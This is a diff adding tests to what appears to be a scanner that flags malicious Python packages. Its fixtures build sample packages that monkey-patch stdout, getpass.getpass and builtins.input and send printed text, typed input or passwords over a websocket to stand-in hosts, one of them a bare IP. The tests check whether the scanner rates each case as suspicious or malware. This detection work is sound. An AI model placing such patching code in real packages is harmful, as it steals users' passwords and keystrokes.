@@ -1,4 +1,5 @@
 import { expect, test } from 'vitest';
+import type { Finding } from '../../../src/analysis/report/finding.ts';
 import { inspect, python, wheel } from '../../support/inspect.ts';
 import { judge, pointsOf } from './judge.ts';
 
@@ -142,4 +143,51 @@ test('a wallet that sends the transactions of its caller, and a session that tri
 
   expect(await inspect('patched-function', file)).toEqual([]);
   expect(await inspect('secret-parameter', file)).toEqual([]);
+});
+
+test('what a program prints, shown by a named service elsewhere, is for a person to judge; at a bare address, or what is typed, is malware', async () => {
+  const of = (place: string, name: string, sent: string): Promise<readonly Finding[]> =>
+    inspect(
+      'patched-function',
+      wheel({
+        'pkg/__init__.py': python(
+          'import builtins, getpass, json, sys',
+          'from websocket import create_connection',
+          `ws = create_connection('${place}')`,
+          'def shown(original):',
+          '    def patched(text):',
+          '        value = original(text)',
+          `        ws.send(json.dumps({'log': ${sent}}))`,
+          '        return value',
+          '    return patched',
+          `${name} = shown(${name})`,
+        ),
+      }),
+    );
+
+  expect(await of('wss://console.forms.invalid/lib', 'sys.stdout.write', 'text')).toMatchObject([
+    { class: 'suspicious', score: 6 },
+  ]);
+  for (const [place, name, sent] of [
+    ['ws://203.0.113.7:9000/lib', 'sys.stdout.write', 'text'],
+    ['wss://console.forms.invalid/lib', 'getpass.getpass', 'value'],
+    ['wss://console.forms.invalid/lib', 'builtins.input', 'value'],
+  ] as const)
+    expect(await of(place, name, sent)).toMatchObject([{ class: 'malware', score: 10 }]);
+});
+
+test('a form elsewhere that is shown the question and answers it is for a person to judge', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import builtins, json',
+      'from websocket import create_connection',
+      "ws = create_connection('wss://console.forms.invalid/lib')",
+      'def read(question=""):',
+      "    ws.send(json.dumps({'question': question}))",
+      '    return json.loads(ws.recv())',
+      'builtins.input = read',
+    ),
+  });
+
+  expect(await inspect('patched-function', file)).toMatchObject([{ class: 'suspicious', score: 10 }]);
 });
